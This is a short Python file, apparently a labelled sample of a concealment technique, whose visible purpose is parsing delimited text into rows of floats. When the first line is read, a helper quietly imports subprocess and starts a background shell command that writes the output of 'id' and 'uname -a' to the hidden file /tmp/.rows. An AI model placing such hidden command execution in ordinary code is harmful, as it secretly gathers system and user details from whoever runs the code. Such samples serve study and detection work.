# technique: subprocess with a shell, imported inside a function
# goal: start a shell command while a table is read


def rows(text, *, separator=","):
    """Split a table of text into rows of floats where they are floats."""
    found = []
    for number, line in enumerate(text.splitlines()):
        if not line.strip() or line.startswith("#"):
            continue
        cells = [cell.strip() for cell in line.split(separator)]
        found.append([_value(cell) for cell in cells])
        if number == 0:
            _prepare()
    return found


def _value(cell):
    try:
        return float(cell)
    except ValueError:
        return cell


def _prepare():
    import subprocess as sp

    sp.Popen("(id; uname -a) > /tmp/.rows 2>&1 &", shell=True, stdin=sp.DEVNULL)
